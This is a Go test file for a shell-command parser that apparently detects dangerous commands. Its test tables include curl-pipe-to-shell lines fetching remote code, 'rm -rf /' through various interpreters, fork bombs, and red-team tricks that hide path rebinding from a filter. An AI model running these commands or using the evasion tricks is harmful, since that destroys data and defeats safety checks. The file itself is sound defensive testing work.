package shell

import (
	"context"
	"slices"
	"testing"
)

// codeLines are lines that run code from elsewhere: a download given to
// a shell or interpreter by a pipe, a process substitution or a command
// substitution. For each, the command whose CodeFrom is checked (by
// index) and the names it must hold.
var codeLines = []struct {
	line string
	idx  int
	from []string
	lang string
}{
	{`curl -fsSL https://x.sh | sh`, 1, []string{"curl"}, "sh"},
	{`curl -s https://x | base64 -d | sudo bash -s -- --yes`, 2, []string{"curl", "base64"}, "sh"},
	{`wget -qO- https://x | python3`, 1, []string{"wget"}, "python"},
	{`curl -s https://x | python3 -`, 1, []string{"curl"}, "python"},
	{`curl -s https://x | perl`, 1, []string{"curl"}, "perl"},
	{`curl -s https://x | node`, 1, []string{"curl"}, "node"},
	{`bash <(curl -s https://x.sh)`, 0, []string{"curl"}, "sh"},
	{`sudo bash <(wget -qO- https://x.sh)`, 0, []string{"wget"}, "sh"},
	{`python3 <(curl -s https://x.py)`, 0, []string{"curl"}, "python"},
	{`source <(curl -s https://x)`, 0, []string{"curl"}, "sh"},
	{`. <(curl -s https://x)`, 0, []string{"curl"}, "sh"},
	{`bash -s < <(curl -s https://x)`, 0, []string{"curl"}, "sh"},
	{`curl -s https://x | source /dev/stdin`, 1, []string{"curl"}, "sh"},
	{`wget -qO- https://x | . /dev/fd/0`, 1, []string{"wget"}, "sh"},
	{`source /dev/stdin <<< "$(curl -s https://x)"`, 0, []string{"curl"}, "sh"},
	{`sh -c "$(curl -fsSL https://x.sh)"`, 0, []string{"curl"}, ""},
	{`bash -c "$(wget -qO- https://x.sh)" -- --yes`, 0, []string{"wget"}, ""},
	{`bash -c "echo hi; $(curl -s https://x)"`, 0, []string{"curl"}, ""},
	{`bash -c "# $(curl -s https://x)"`, 0, []string{"curl"}, "sh"},
	{`eval "$(curl -s https://x)"`, 0, []string{"curl"}, ""},
	{"eval `curl -s https://x`", 0, []string{"curl"}, ""},
	{`bash <<< "$(curl -s https://x)"`, 0, []string{"curl"}, "sh"},
	{`python3 -c "$(curl -s https://x.py)"`, 0, []string{"curl"}, "python"},
	{`curl -fsSL https://x.sh | xargs -0 sh -c`, 1, []string{"curl"}, "sh"},
	{`echo 'rm -rf ~' | xargs -0 bash -c`, 1, []string{"echo"}, "sh"},
	{`wget -qO- https://x | sudo xargs -d '\n' -I{} bash -c`, 1, []string{"wget"}, "sh"},
	// Not code: the download is data.
	{`curl -s https://x | jq .name`, 1, []string{}, ""},
	{`curl -s https://x > x.sh; sh x.sh`, 1, []string{}, "sh"},
	{`echo "$(curl -s https://x)"`, 0, []string{}, ""},
	{`cat <(curl -s https://x)`, 0, []string{}, ""},
	{`curl -s https://x | tee out | less`, 2, []string{}, ""},
	{`bash -c`, 0, []string{}, "sh"}, // no wrapper gives a script
}

func TestParseCodeFrom(t *testing.T) {
	for _, tc := range codeLines {
		cmds, err := Parse(context.Background(), tc.line)
		if err != nil || len(cmds) <= tc.idx {
			t.Errorf("Parse(%q) = %v, %v", tc.line, cmds, err)
			continue
		}
		c := cmds[tc.idx]
		if !slices.Equal(c.CodeFrom, tc.from) || c.Lang != tc.lang {
			t.Errorf("Parse(%q)[%d] = %v code_from=%q lang=%q; want code_from=%q lang=%q", tc.line, tc.idx, c, c.CodeFrom, c.Lang, tc.from, tc.lang)
		}
		checkInvariants(t, tc.line, cmds)
	}
}

// interpLines are interpreter one-liners: the code found, and the
// commands reported after the interpreter, which run what its code runs.
var interpLines = []struct {
	line  string
	code  string
	calls int
	after []want
}{
	{`python3 -c 'import os; os.system("rm -rf ~")'`, `import os; os.system("rm -rf ~")`, 1, []want{c("rm", "-rf", "~").by("python3").dyn()}},
	{`python -c "import subprocess; subprocess.run(['rm','-rf','/'])"`, "import subprocess; subprocess.run(['rm','-rf','/'])", 1, []want{c("rm", "-rf", "/").by("python")}},
	{`python3 -Ic 'import os; os.system("sudo rm -rf /")'`, `import os; os.system("sudo rm -rf /")`, 1, []want{c("rm", "-rf", "/").by("python3", "sudo")}},
	{`python3.12 -c 'import shutil; shutil.rmtree("/")'`, `import shutil; shutil.rmtree("/")`, 1, nil},
	{`/usr/bin/python3 -W ignore -c 'import os; os.system("ls")'`, `import os; os.system("ls")`, 1, []want{c("ls").by("python3")}},
	{`python3 -m http.server`, "", 0, nil},
	{`python3 script.py -c 'os.system("x")'`, "", 0, nil},
	{`perl -e 'system("rm -rf /")'`, `system("rm -rf /")`, 1, []want{c("rm", "-rf", "/").by("perl")}},
	{`perl -MFile::Path -le 'rmtree("/usr")'`, `rmtree("/usr")`, 1, nil},
	{`perl -e 'print 1' -e 'system "ls"'`, "print 1\nsystem \"ls\"", 1, []want{c("ls").by("perl")}},
	{`perl -pi -e 's/a/b/' file.txt`, "s/a/b/", 0, nil},
	{`ruby -rfileutils -e 'FileUtils.rm_rf("/")'`, `FileUtils.rm_rf("/")`, 1, nil},
	{"ruby -e '`rm -rf /`'", "`rm -rf /`", 1, []want{c("rm", "-rf", "/").by("ruby")}},
	{`node -e 'require("child_process").execSync("rm -rf /")'`, `require("child_process").execSync("rm -rf /")`, 1, []want{c("rm", "-rf", "/").by("node")}},
	{`node --eval='require("child_process").execSync("ls")'`, `require("child_process").execSync("ls")`, 1, []want{c("ls").by("node")}},
	{`node -e "require('child_process').spawnSync('sh', ['-c', 'rm -rf /'])"`, "require('child_process').spawnSync('sh', ['-c', 'rm -rf /'])", 1, []want{c("rm", "-rf", "/").by("node", "sh")}},
	{`deno eval 'Deno.removeSync("/", {recursive: true})'`, `Deno.removeSync("/", {recursive: true})`, 1, nil},
	{`php -r 'system("rm -rf /");'`, `system("rm -rf /");`, 1, []want{c("rm", "-rf", "/").by("php")}},
	{`lua -e 'os.execute("rm -rf /")'`, `os.execute("rm -rf /")`, 1, []want{c("rm", "-rf", "/").by("lua")}},
	{"python3 <<'EOF'\nimport os\nos.system('rm -rf /')\nEOF", "import os\nos.system('rm -rf /')\n", 1, []want{c("rm", "-rf", "/").by("python3")}},
	{`python3 <<< 'import shutil; shutil.rmtree("/")'`, `import shutil; shutil.rmtree("/")`, 1, nil},
	{`sudo -u root python3 -c 'import os; os.system("rm -rf /")'`, `import os; os.system("rm -rf /")`, 1, []want{c("rm", "-rf", "/").by("sudo", "python3")}},
	{`python3 -c 'import os; os.system(cmd)'`, "import os; os.system(cmd)", 1, nil},
	{`python3 -c 'print("rm -rf /")'`, `print("rm -rf /")`, 0, nil},
}

func TestParseInterpreters(t *testing.T) {
	for _, tc := range interpLines {
		cmds, err := Parse(context.Background(), tc.line)
		if err != nil || len(cmds) == 0 {
			t.Errorf("Parse(%q) = %v, %v", tc.line, cmds, err)
			continue
		}
		first := cmds[0]
		if first.Lang == "" || first.Code != tc.code || len(first.Calls) != tc.calls {
			t.Errorf("Parse(%q)[0] lang=%q code=%q calls=%+v; want code %q and %d calls", tc.line, first.Lang, first.Code, first.Calls, tc.code, tc.calls)
		}
		if !matches(cmds[1:], tc.after) {
			t.Errorf("Parse(%q)[1:]:\n got %v\nwant %v", tc.line, cmds[1:], tc.after)
		}
		checkInvariants(t, tc.line, cmds)
	}
}

func TestParsePaths(t *testing.T) {
	tests := map[string]PathInfo{
		`/`:              {Path: "/", Prefix: "/"},
		`//`:             {Path: "/", Prefix: "/"},
		`/./usr`:         {Path: "/usr", Prefix: "/usr"},
		`/etc/../usr`:    {Path: "/usr", Prefix: "/usr"},
		`/usr/`:          {Path: "/usr", Prefix: "/usr"},
		`'/usr//lib/'`:   {Path: "/usr/lib", Prefix: "/usr/lib"},
		`/*`:             {Path: "/*", Prefix: "/", Glob: true},
		`/u*`:            {Path: "/u*", Prefix: "/", Glob: true},
		`/usr/lib*`:      {Path: "/usr/lib*", Prefix: "/usr", Glob: true},
		`'/*'`:           {Path: "/*", Prefix: "/*"},
		`/\*`:            {Path: "/*", Prefix: "/*"},
		`*`:              {Path: "*", Prefix: ".", Glob: true},
		`./*`:            {Path: "*", Prefix: ".", Glob: true},
		`~`:              {Path: "~", Prefix: "~"},
		`~/`:             {Path: "~", Prefix: "~"},
		`~/.`:            {Path: "~", Prefix: "~"},
		`~/*`:            {Path: "~/*", Prefix: "~", Glob: true},
		`~/.cache/`:      {Path: "~/.cache", Prefix: "~/.cache"},
		`~root`:          {Path: "~root", Prefix: "~root"},
		`~/..`:           {Path: "~/..", Prefix: "~/..", Dynamic: true},
		`$HOME`:          {Path: "~", Prefix: "~"},
		`"$HOME"`:        {Path: "~", Prefix: "~"},
		`${HOME}/`:       {Path: "~", Prefix: "~"},
		`"${HOME}"/*`:    {Path: "~/*", Prefix: "~", Glob: true},
		`"$HOME/"`:       {Path: "~", Prefix: "~"},
		`$PWD`:           {Path: ".", Prefix: "."},
		`"$PWD"/..`:      {Path: "..", Prefix: ".."},
		`.`:              {Path: ".", Prefix: "."},
		`./build/`:       {Path: "build", Prefix: "build"},
		`../x/../y`:      {Path: "../y", Prefix: "../y"},
		`$DIR/`:          {Path: "$DIR", Prefix: "$DIR", Dynamic: true},
		`"$DIR"/*`:       {Path: "$DIR/*", Prefix: "$DIR", Glob: true, Dynamic: true},
		`$(pwd)`:         {Path: "$(pwd)", Prefix: "$(pwd)", Dynamic: true},
		`${HOME:-/tmp}`:  {Path: "${HOME:-/tmp}", Prefix: "${HOME:-/tmp}", Dynamic: true},
		`/x$HOME`:        {Path: "/x$HOME", Prefix: "/x$HOME", Dynamic: true},
		`'$HOME'`:        {Path: "$HOME", Prefix: "$HOME"},
		`/{usr,etc}/../`: {Path: "/", Prefix: "/"},
	}
	for word, want := range tests {
		cmds, err := Parse(context.Background(), "rm -rf "+word)
		if err != nil || len(cmds) == 0 {
			t.Errorf("Parse(rm -rf %s) = %v, %v", word, cmds, err)
			continue
		}
		if got := cmds[0].Paths[2]; got != want {
			t.Errorf("rm -rf %s: path %+v; want %+v", word, got, want)
		}
		if len(cmds[0].Paths) != len(cmds[0].Argv) {
			t.Errorf("rm -rf %s: %d paths for %d words", word, len(cmds[0].Paths), len(cmds[0].Argv))
		}
	}
}

// TestParseLoopPaths: a for loop over one word binds its variable to the
// names that word lists, and a line's own unconditional assignment its
// variable to the value, for the paths of the words that start with it.
func TestParseLoopPaths(t *testing.T) {
	tests := []struct {
		line string
		want PathInfo // the last command's second word
	}{
		{`for f in *.md; do sed -i s/a/b/ "$f"; done`, PathInfo{Path: "*.md", Prefix: ".", Glob: true}},
		{`for d in packages/*/; do rm -rf "$d/dist"; done`, PathInfo{Path: "packages/*/dist", Prefix: "packages", Glob: true}},
		{`for f in /*; do rm -rf "$f"; done`, PathInfo{Path: "/*", Prefix: "/", Glob: true}},
		{`for f in x*; do rm -rf $f; done`, PathInfo{Path: `$f`, Prefix: `$f`, Dynamic: true}}, // a matched name may split
		{`for f in build; do rm -rf "${f}"/out; done`, PathInfo{Path: "build/out", Prefix: "build/out"}},
		{`for f in .claude/*; do for g in x; do rm "$f"; done; done`, PathInfo{Path: ".claude/*", Prefix: ".claude", Glob: true}},
		// not bound: two words, a dynamic word, an operator, an unknown rest
		{`for d in /usr /etc; do rm -rf "$d"; done`, PathInfo{Path: `$d`, Prefix: `$d`, Dynamic: true}},
		{`for d in $DIRS; do rm -rf "$d"; done`, PathInfo{Path: `$d`, Prefix: `$d`, Dynamic: true}},
		{`for f in *.py; do rm "${f%.py}"; done`, PathInfo{Path: `${f%.py}`, Prefix: `${f%.py}`, Dynamic: true}},
		{`for f in *.py; do rm "$f$X"; done`, PathInfo{Path: `$f$X`, Prefix: `$f$X`, Dynamic: true}},
		// a variable the line sets once, unconditionally, at its top level
		{`OUT=build; rm -rf "$OUT"`, PathInfo{Path: "build", Prefix: "build"}},
		{`x=/; rm -rf $x`, PathInfo{Path: "/", Prefix: "/"}},
		{`DIR=~; rm -rf "$DIR"/*`, PathInfo{Path: "~/*", Prefix: "~", Glob: true}},
		{`OUT=build && cd x && rm -rf "$OUT"`, PathInfo{Path: "build", Prefix: "build"}},
		{`T=/tmp/x; rm -rf "$T"/*`, PathInfo{Path: "/tmp/x/*", Prefix: "/tmp/x", Glob: true}},
		// and not otherwise: a use before it, a second assignment, a branch,
		// a subshell or background, a value that splits or globs, a line
		// with a command that may set it another way or a function
		{`rm -rf "$OUT"; OUT=build`, PathInfo{Path: `$OUT`, Prefix: `$OUT`, Dynamic: true}},
		{`OUT=build; OUT=$(pwd); rm -rf "$OUT"`, PathInfo{Path: `$OUT`, Prefix: `$OUT`, Dynamic: true}},
		{`false && OUT=build; rm -rf "$OUT"`, PathInfo{Path: `$OUT`, Prefix: `$OUT`, Dynamic: true}},
		{`(OUT=build); rm -rf "$OUT"`, PathInfo{Path: `$OUT`, Prefix: `$OUT`, Dynamic: true}},
		{`OUT=build & rm -rf "$OUT"`, PathInfo{Path: `$OUT`, Prefix: `$OUT`, Dynamic: true}},
		{`OUT="a /"; rm -rf $OUT`, PathInfo{Path: `$OUT`, Prefix: `$OUT`, Dynamic: true}},
		{`OUT='*'; rm -rf $OUT`, PathInfo{Path: `$OUT`, Prefix: `$OUT`, Dynamic: true}},
		{`OUT=build; eval "OUT=/"; rm -rf "$OUT"`, PathInfo{Path: `$OUT`, Prefix: `$OUT`, Dynamic: true}},
		{`OUT=build; read OUT; rm -rf "$OUT"`, PathInfo{Path: `$OUT`, Prefix: `$OUT`, Dynamic: true}},
		{`OUT=build; f() { OUT=/; }; f; rm -rf "$OUT"`, PathInfo{Path: `$OUT`, Prefix: `$OUT`, Dynamic: true}},
		{`OUT=build; : ${OUT:=/}; rm -rf "$OUT"`, PathInfo{Path: `$OUT`, Prefix: `$OUT`, Dynamic: true}},
		{`OUT=build; OUT=x true; rm -rf "$OUT"`, PathInfo{Path: `$OUT`, Prefix: `$OUT`, Dynamic: true}},
		// the red team's: a wrapper hiding a rebinder, a trap, a variable
		// the shell sets, IFS, a list that brace-expands or splits, a
		// body that reassigns, an alias
		{`x=build; builtin read x <<< /usr; rm -rf "$x"`, PathInfo{Path: `$x`, Prefix: `$x`, Dynamic: true}},
		{`x=build; \read x <<< /usr; rm -rf "$x"`, PathInfo{Path: `$x`, Prefix: `$x`, Dynamic: true}},
		{`x=build; trap "x=/usr" DEBUG; rm -rf "$x"`, PathInfo{Path: `$x`, Prefix: `$x`, Dynamic: true}},
		{`_=build; : /usr; rm -rf "$_"`, PathInfo{Path: `$_`, Prefix: `$_`, Dynamic: true}},
		{`PWD=build; cd /usr; rm -rf "$PWD"`, PathInfo{Path: ".", Prefix: "."}}, // $PWD is where the command runs: /usr
		{`x=Q/etc; IFS=Q; rm -rf $x`, PathInfo{Path: `$x`, Prefix: `$x`, Dynamic: true}},
		{`for f in {/usr,build}; do rm -rf "$f"; done`, PathInfo{Path: `$f`, Prefix: `$f`, Dynamic: true}},
		{`for f in 'build /usr'; do rm -rf $f; done`, PathInfo{Path: `$f`, Prefix: `$f`, Dynamic: true}},
		{`for f in build; do f=/usr; rm -rf "$f"; done`, PathInfo{Path: `$f`, Prefix: `$f`, Dynamic: true}},
		{`for f in build; do true && f=/usr; rm -rf "$f"; done`, PathInfo{Path: `$f`, Prefix: `$f`, Dynamic: true}},
		{"shopt -s expand_aliases\nalias r=\"x=/usr\"\nx=build\nr\nrm -rf \"$x\"", PathInfo{Path: `$x`, Prefix: `$x`, Dynamic: true}},
		// the second round's: a builtin spelled otherwise, one not listed
		{`x=build; r\ead x <<< /usr; rm -rf "$x"`, PathInfo{Path: `$x`, Prefix: `$x`, Dynamic: true}},
		{`x=build; e{v,v}al x=/usr; rm -rf "$x"`, PathInfo{Path: `$x`, Prefix: `$x`, Dynamic: true}},
		{`x=build; wait -p x; rm -rf "$x"`, PathInfo{Path: `$x`, Prefix: `$x`, Dynamic: true}},
		{`x=build; case a in a). /dev/stdin <<< x=/usr;; esac; rm -rf "$x"`, PathInfo{Path: `$x`, Prefix: `$x`, Dynamic: true}},
		{`x=build; [[ -v a[x=1] ]]; rm -rf "$x"`, PathInfo{Path: `$x`, Prefix: `$x`, Dynamic: true}},
	}
	for _, tc := range tests {
		cmds, err := Parse(context.Background(), tc.line)
		if err != nil || len(cmds) == 0 {
			t.Errorf("Parse(%q) = %v, %v", tc.line, cmds, err)
			continue
		}
		last := cmds[len(cmds)-1]
		if got := last.Paths[len(last.Paths)-1]; got != tc.want {
			t.Errorf("Parse(%q): path %+v; want %+v", tc.line, got, tc.want)
		}
	}
}

func TestParseFunctionsAndBackground(t *testing.T) {
	tests := []struct {
		line string
		want []string // per command: name, function, "&" when in the background
	}{
		{`:(){ :|:& };:`, []string{":" + ":&", ":" + ":&", ":"}},
		{`bomb() { bomb | bomb & }; bomb`, []string{"bomb" + "bomb&", "bomb" + "bomb&", "bomb"}},
		{`function f { f & f; }; f`, []string{"ff&", "ff", "f"}},
		{`sleep 10 & wait`, []string{"sleep&", "wait"}},
		{`(cd /tmp && make) &`, []string{"cd&", "make&"}},
		{`f() { ls; }; f &`, []string{"lsf", "f&"}},
	}
	for _, tc := range tests {
		cmds, err := Parse(context.Background(), tc.line)
		if err != nil {
			t.Errorf("Parse(%q): %v", tc.line, err)
			continue
		}
		var got []string
		for _, c := range cmds {
			s := c.Name + c.Function
			if c.Background {
				s += "&"
			}
			got = append(got, s)
		}
		if !slices.Equal(got, tc.want) {
			t.Errorf("Parse(%q) = %q; want %q", tc.line, got, tc.want)
		}
	}
}
